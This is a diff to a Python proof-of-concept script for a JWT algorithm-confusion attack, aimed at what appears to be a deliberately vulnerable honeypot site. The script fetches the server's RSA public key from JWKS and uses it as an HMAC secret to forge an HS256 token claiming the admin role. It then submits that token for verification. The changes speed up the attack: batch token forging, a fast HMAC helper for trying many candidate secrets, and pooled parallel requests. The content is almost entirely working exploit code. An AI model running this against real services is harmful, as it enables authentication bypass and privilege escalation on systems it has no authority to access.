@@ -4,6 +4,7 @@
 #   "pyjwt>=2.8.0",
 #   "requests>=2.31.0",
 #   "cryptography>=41.0.0",
+#   "orjson>=3.9.0",
 # ]
 # ///
 
@@ -13,72 +14,121 @@ Demonstrates exploitation of JWT algorithm confusion vulnerability
 """
 
 import jwt
-import json
+import orjson
 import requests
+from requests.adapters import HTTPAdapter
 import hmac
 import hashlib
 import base64
-from datetime import datetime, timedelta
+from concurrent.futures import ThreadPoolExecutor
+import time
 
 # Configuration
 # BASE_URL = "http://localhost:3000"
 BASE_URL = 'https://honeypot-jwt-alg-confusion.vercel.app/'
 
+# Compact JSON header for every forged token, encoded once
+HS256_HEADER_B64 = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').rstrip(b'=')
+
 def print_step(step_num, description):
     """Pretty print step headers"""
     print(f"\n{'='*60}")
     print(f"STEP {step_num}: {description}")
     print('='*60)
 
-def base64url_encode(data):
-    """Base64URL encode without padding"""
-    return base64.urlsafe_b64encode(data).rstrip(b'=').decode('utf-8')
+def parse_json(response):
+    """Parse a response body with orjson"""
+    return orjson.loads(response.content)
+
+def pretty_json(obj):
+    """Serialize to indented JSON for display"""
+    return orjson.dumps(obj, option=orjson.OPT_INDENT_2).decode('utf-8')
+
+def base64url_decode(input_str):
+    """Base64URL decode, restoring any stripped padding"""
+    return base64.urlsafe_b64decode(input_str + '=' * (-len(input_str) % 4))
+
+def create_hs256_signer(secret):
+    """
+    Key an HMAC-SHA256 template once
+    Each forged token copies it instead of re-deriving the keyed state
+    """
+    return hmac.new(secret, None, hashlib.sha256)
 
-def create_jwt_hs256(payload, secret):
+def create_jwt_hs256(payload, signer):
     """
     Manually create a JWT with HS256 algorithm
     This bypasses PyJWT's safety checks
     """
-    # Create header - use compact JSON (no spaces)
-    header = {
-        "alg": "HS256",
-        "typ": "JWT"
-    }
-
-    # Encode header and payload with compact JSON (no spaces after : or ,)
-    header_encoded = base64url_encode(json.dumps(header, separators=(',', ':')).encode())
-    payload_encoded = base64url_encode(json.dumps(payload, separators=(',', ':')).encode())
+    # Encode payload with compact JSON (no spaces after : or ,)
+    payload_encoded = base64.urlsafe_b64encode(orjson.dumps(payload)).rstrip(b'=')
 
     # Create message to sign
-    message = f"{header_encoded}.{payload_encoded}".encode()
+    message = HS256_HEADER_B64 + b'.' + payload_encoded
 
-    # Create HMAC signature using the secret (public key)
-    signature = hmac.new(secret, message, hashlib.sha256).digest()
-    signature_encoded = base64url_encode(signature)
+    # Create HMAC signature using the keyed template (public key as secret)
+    mac = signer.copy()
+    mac.update(message)
+    signature_encoded = base64.urlsafe_b64encode(mac.digest()).rstrip(b'=')
 
     # Combine all parts
-    token = f"{header_encoded}.{payload_encoded}.{signature_encoded}"
-    return token
+    return (message + b'.' + signature_encoded).decode('utf-8')
+
+def forge_jwts_hs256(payloads, secret):
+    """
+    Forge many HS256 tokens under one secret
+    The key schedule is computed once and copied for every payload
+    """
+    signer = create_hs256_signer(secret)
+    return [create_jwt_hs256(payload, signer) for payload in payloads]
+
+def hs256_digest(secret, message):
+    """
+    One-shot HMAC-SHA256 for trying many candidate secrets
+    hmac.digest runs entirely in OpenSSL (SHA-NI where the CPU has it),
+    skipping the pure-Python hmac.HMAC wrapper
+    """
+    return hmac.digest(secret, message, 'sha256')
+
+def create_session():
+    """Create a keep-alive session so every step reuses one pooled connection"""
+    session = requests.Session()
+    adapter = HTTPAdapter(pool_connections=2, pool_maxsize=8, max_retries=0)
+    session.mount("http://", adapter)
+    session.mount("https://", adapter)
+    return session
 
 def main():
+    with create_session() as session:
+        run_attack(session)
+
+def run_attack(session):
+    """Run the attack steps against BASE_URL using the given session"""
     print("JWT Algorithm Confusion Attack")
     print("Target:", BASE_URL)
 
+    # Steps 1 and 2 are independent, so issue the login and JWKS requests together
+    with ThreadPoolExecutor(max_workers=2) as pool:
+        f_login = pool.submit(
+            session.post,
+            f"{BASE_URL}/api/auth/login",
+            json={
+                "email": "user@example.com",
+                "password": "password123"
+            }
+        )
+        f_jwks = pool.submit(session.get, f"{BASE_URL}/api/auth/jwks")
+        login_response = f_login.result()
+        jwks_response = f_jwks.result()
+
     # Step 1: Login as regular user
     print_step(1, "Login as regular user")
-    login_response = requests.post(
-        f"{BASE_URL}/api/auth/login",
-        json={
-            "email": "user@example.com",
-            "password": "password123"
-        }
-    )
 
     if login_response.status_code != 200:
         print(f"❌ Login failed: {login_response.text}")
         return
 
-    user_token = login_response.json()["token"]
+    user_token = parse_json(login_response)["token"]
     print(f"✅ Got user token")
     print(f"Token (truncated): {user_token[:50]}...")
 
@@ -89,13 +139,12 @@ def main():
 
     # Step 2: Fetch public key from JWKS endpoint
     print_step(2, "Fetch public key from JWKS endpoint")
-    jwks_response = requests.get(f"{BASE_URL}/api/auth/jwks")
 
     if jwks_response.status_code != 200:
         print(f"❌ Failed to fetch JWKS: {jwks_response.text}")
         return
 
-    jwk = jwks_response.json()["keys"][0]
+    jwk = parse_json(jwks_response)["keys"][0]
     print(f"✅ Retrieved public key from JWKS")
     print(f"Key type: {jwk.get('kty')}")
     print(f"Algorithm: {jwk.get('alg')}")
@@ -107,13 +156,6 @@ def main():
     from cryptography.hazmat.backends import default_backend
 
     # Decode the modulus and exponent from JWK
-    def base64url_decode(input_str):
-        """Decode base64url encoded string"""
-        padding = 4 - (len(input_str) % 4)
-        if padding != 4:
-            input_str += '=' * padding
-        return base64.urlsafe_b64decode(input_str)
-
     n = int.from_bytes(base64url_decode(jwk['n']), byteorder='big')
     e = int.from_bytes(base64url_decode(jwk['e']), byteorder='big')
 
@@ -133,18 +175,19 @@ def main():
     print_step(4, "Forge admin JWT using HS256 algorithm")
 
     # Create forged payload with admin privileges
+    now = int(time.time())
     forged_payload = {
         "sub": "999",
         "email": "attacker@example.com",
         "role": "admin",  # 🚨 Privilege escalation!
-        "iat": int(datetime.now().timestamp()),
-        "exp": int((datetime.now() + timedelta(hours=1)).timestamp())
+        "iat": now,
+        "exp": now + 3600
     }
 
-    print(f"Forged claims: {json.dumps(forged_payload, indent=2)}")
+    print(f"Forged claims: {pretty_json(forged_payload)}")
 
     # 🔥 The vulnerability: Using HS256 with public key PEM as HMAC secret
-    forged_token = create_jwt_hs256(forged_payload, public_key_pem)
+    forged_token = create_jwt_hs256(forged_payload, create_hs256_signer(public_key_pem))
 
     print(f"✅ Forged admin token created")
     print(f"Token (truncated): {forged_token[:50]}...")
@@ -155,16 +198,16 @@ def main():
 
     # Step 5: Exploit the vulnerability
     print_step(5, "Exploit algorithm confusion vulnerability")
-    verify_response = requests.post(
+    verify_response = session.post(
         f"{BASE_URL}/api/auth/verify",
         json={"token": forged_token}
     )
 
     if verify_response.status_code == 200:
-        result = verify_response.json()
+        result = parse_json(verify_response)
         print("🎉 SUCCESS! Algorithm confusion attack worked!")
         print(f"\nServer Response:")
-        print(json.dumps(result, indent=2))
+        print(pretty_json(result))
 
         if result.get('exploited'):
             print(f"\n{'*'*60}")